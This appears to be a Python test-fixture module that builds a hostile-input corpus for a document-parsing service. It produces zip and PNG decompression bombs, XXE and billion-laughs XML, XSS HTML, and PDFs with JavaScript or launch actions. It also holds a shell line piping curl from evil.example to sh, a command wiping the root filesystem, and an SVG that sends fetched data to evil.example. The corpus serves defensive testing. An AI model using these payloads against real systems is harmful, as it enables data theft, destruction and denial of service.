"""Building blocks of the hostile-input corpus (tests/hostile/make_corpus.py): images that
declare huge sizes, zips that inflate or lie, XML with entities, PDFs with actions, executables."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

GIB = 1 << 30
MIB = 1 << 20


# --- building blocks ---------------------------------------------------------------------------


def png(width: int = 8, height: int = 6, color: tuple[int, int, int] = (30, 120, 60)) -> bytes:
    """A real PNG written by hand (no Pillow needed to rebuild the corpus)."""
    row = b"\x00" + bytes(color) * width
    return png_chunks(width, height, 2, zlib.compress(row * height, 9))


def png_chunks(width: int, height: int, color_type: int, idat: bytes, bit_depth: int = 8) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    header = struct.pack(">IIBBBBB", width, height, bit_depth, color_type, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def png_bomb(width: int, height: int) -> bytes:
    """A real 1-bit image of `width`×`height`, all zero: tiny compressed, huge decoded."""
    row = b"\x00" * (1 + (width + 7) // 8)
    compressor = zlib.compressobj(9)
    parts = [compressor.compress(row * 1000) for _ in range(height // 1000)]
    parts.append(compressor.flush())
    return png_chunks(width, height, 0, b"".join(parts), bit_depth=1)


def tiny_jpeg(width: int = 8, height: int = 8) -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (width, height), (200, 40, 40)).save(out, "JPEG", quality=80)
    return out.getvalue()


def jpeg_declaring(width: int, height: int) -> bytes:
    """A small JPEG whose frame header (SOF0) claims another size."""
    data = bytearray(tiny_jpeg())
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def gif_declaring(width: int, height: int) -> bytes:
    """A 1×1 GIF in a logical screen of `width`×`height`."""
    screen = struct.pack("<HHBBB", width, height, 0x80, 0, 0) + b"\x00\x00\x00\xff\xff\xff"
    image = b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\x00"
    return b"GIF89a" + screen + image + b"\x3b"


def docx(document_xml: str | bytes | None = None) -> bytes:
    """A real Word file, its body replaced by `document_xml` when given."""
    import docx as python_docx

    document = python_docx.Document()
    document.add_paragraph("朔州市整改方案（测试）")
    out = io.BytesIO()
    document.save(out)
    if document_xml is None:
        return out.getvalue()
    body = document_xml.encode("utf-8") if isinstance(document_xml, str) else document_xml
    return replace_member(out.getvalue(), "word/document.xml", body)


def xlsx(rows: list[list[object]], *, formulas: dict[str, str] | None = None) -> bytes:
    import xlsxwriter

    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True, "strings_to_formulas": False})
    sheet = book.add_worksheet("Sheet1")
    for r, row in enumerate(rows):
        for c, value in enumerate(row):
            sheet.write(r, c, value)
    for cell, formula in (formulas or {}).items():
        sheet.write_formula(cell, formula, None, "")
    book.close()
    return out.getvalue()


def replace_member(archive: bytes, name: str, content: bytes, *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(archive))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = content if info.filename == name else source.read(info.filename)
            target.writestr(
                info.filename, data, compress_type=method if info.filename == name else zipfile.ZIP_DEFLATED
            )
    return out.getvalue()


def streamed_member(archive: bytes, name: str, size: int, *, method: int, fill: bytes = b" ") -> bytes:
    """`archive` with member `name` replaced by `size` bytes of `fill`, compressed as it streams."""
    source = zipfile.ZipFile(io.BytesIO(archive))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, allowZip64=True) as target:
        for info in source.infolist():
            if info.filename != name:
                target.writestr(info.filename, source.read(info.filename))
                continue
            entry = zipfile.ZipInfo(name, date_time=(2022, 6, 1, 0, 0, 0))
            entry.compress_type = method
            with target.open(entry, "w", force_zip64=size >= 1 << 31) as sink:
                block = fill * (16 * MIB // len(fill))
                left = size
                while left > 0:
                    sink.write(block[: min(left, len(block))])
                    left -= min(left, len(block))
    return out.getvalue()


def lying_sizes(archive: bytes, name: str, declared: int) -> bytes:
    """The member's uncompressed size in both headers rewritten to `declared` (the bytes inflate
    to far more): a checker that trusts the headers and then inflates is fooled."""
    data = bytearray(archive)
    for signature, size_at, name_len_at, name_at in ((b"PK\x03\x04", 22, 26, 30), (b"PK\x01\x02", 24, 28, 46)):
        start = 0
        while (at := data.find(signature, start)) >= 0:
            length = struct.unpack_from("<H", data, at + name_len_at)[0]
            if data[at + name_at : at + name_at + length] == name.encode():
                struct.pack_into("<I", data, at + size_at, declared)
            start = at + 4
    return bytes(data)


def nested_zip(levels: int = 3, copies: int = 10, leaf: int = 10 * MIB) -> bytes:
    """42.zip in small: each level holds `copies` of the level below; the leaf is zeros."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("0.txt", b"\x00" * leaf)
    blob = out.getvalue()
    for level in range(levels):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
            for i in range(copies):
                z.writestr(f"{level}-{i}.zip", blob)
        blob = out.getvalue()
    return blob


def _w_body(lines: list[str]) -> str:
    paragraphs = "".join(f"<w:p><w:r><w:t>{line}</w:t></w:r></w:p>" for line in lines)
    return (
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
        f"{paragraphs}</w:body></w:document>"
    )


PLAN_LINES = [
    "朔州市贯彻落实省生态环境保护督察反馈意见整改方案",
    "附件：整改任务清单",
    "一、思想认识方面",
    "（一）部分领导干部对生态环境保护工作重视不够。&xxe;",
    "整改目标：思想认识明显提高。",
    "整改措施：1.组织专题学习。",
    "责任单位：市委办公室",
    "整改时限：2022年12月底",
]
# A plan the parser reads, its problem text carrying an entity that would read /etc/passwd.
XXE_DOCX = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n' + _w_body(PLAN_LINES)
)
XXE_DTD_DOCX = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE w:document SYSTEM "http://127.0.0.1:9/evil.dtd">
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>
<w:p><w:r><w:t>整改方案 &remote;</w:t></w:r></w:p></w:body></w:document>"""


def laughs(root: str, use: str, levels: int = 10) -> str:
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{"".join(f"&lol{i - 1};" for _ in range(10))}">' for i in range(1, levels)
    ]
    return f'<?xml version="1.0"?>\n<!DOCTYPE {root} [{"".join(entities)}]>\n{use.replace("@", f"&lol{levels - 1};")}'


BILLION_DOCX = laughs(
    "w:document",
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
    "<w:p><w:r><w:t>@</w:t></w:r></w:p></w:body></w:document>",
)
XXE_SHARED = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="2" uniqueCount="2">
<si><t>交办编号</t></si><si><t>&xxe;</t></si></sst>"""
BILLION_SHARED = laughs(
    "sst",
    '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="2" uniqueCount="2">'
    "<si><t>交办编号</t></si><si><t>@</t></si></sst>",
)
XXE_HTML = """<!DOCTYPE html [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<html><head><meta charset="utf-8"><script>alert(document.cookie)</script></head>
<body><p>朔州市整改方案</p><p>&xxe;</p><img src=x onerror="alert(1)"></body></html>"""
BILLION_HTML = laughs("html", "<html><body><p>整改方案</p><p>@</p></body></html>")

ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + b"\x00" * 200
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"\x80\x00\x00\x00" + b"\x00" * 64
PE += b"PE\x00\x00\x4c\x01" + b"\x00" * 200
SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\nrm -rf --no-preserve-root /\n"
SVG = b"""<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">
<script>fetch('/api/v1/complaints/').then(r=>r.text()).then(t=>new Image().src='http://evil.example/?'+t)</script>
<rect width="10" height="10"/></svg>"""

PLAN_TEXT = """朔州市贯彻落实省生态环境保护督察反馈意见整改方案
附件：整改任务清单
一、思想认识方面
（一）部分领导干部对生态环境保护工作重视不够。
整改目标：思想认识明显提高。
整改措施：1.组织专题学习。
责任单位：市委办公室
整改时限：2022年12月底
"""
COMPLAINTS_CSV = "交办编号,行政区域,举报内容,是否属实\nD1,朔城区,煤场扬尘污染。,属实\n"


def simple_pdf(objects: list[bytes], *, trailer_extra: bytes = b"", xref: bool = True) -> bytes:
    """A PDF from its objects (1-based, object 1 the catalog), with a correct cross-reference table."""
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    start = len(out)
    if xref:
        out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
        out += b"".join(f"{o:010d} 00000 n \n".encode() for o in offsets)
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R ".encode() + trailer_extra + b">>\n"
    out += f"startxref\n{start}\n%%EOF\n".encode()
    return bytes(out)


PAGE_OBJECTS = [
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
]


def pdf_plain() -> bytes:
    return simple_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", *PAGE_OBJECTS])


def pdf_js() -> bytes:
    return simple_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            *PAGE_OBJECTS,
            b"<< /Type /Action /S /JavaScript"
            b" /JS (app.alert\\('pwned'\\); this.exportDataObject\\({cName: 'x'}\\);) >>",
        ]
    )


def pdf_js_hidden() -> bytes:
    """The JavaScript action inside a compressed object stream, its name written with #-escapes:
    a byte search for "/JavaScript" finds nothing."""
    inner = b"<< /Type /Action /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"
    header = b"4 0 "
    stream = zlib.compress(header + inner)
    objstm = b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (
        len(header),
        len(stream),
    )
    return simple_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            *PAGE_OBJECTS,
            b"null",
            objstm + stream + b"\nendstream",
        ],
        xref=False,
    )


def pdf_launch() -> bytes:
    return simple_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            *PAGE_OBJECTS,
            b"<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>",
        ]
    )


def pdf_encrypted() -> bytes:
    from fpdf import FPDF

    pdf = FPDF()
    pdf.set_encryption(owner_password="owner-secret", user_password="user-secret")
    pdf.add_page()
    pdf.set_font("helvetica", size=12)
    pdf.cell(text="encrypted evidence")
    return bytes(pdf.output())
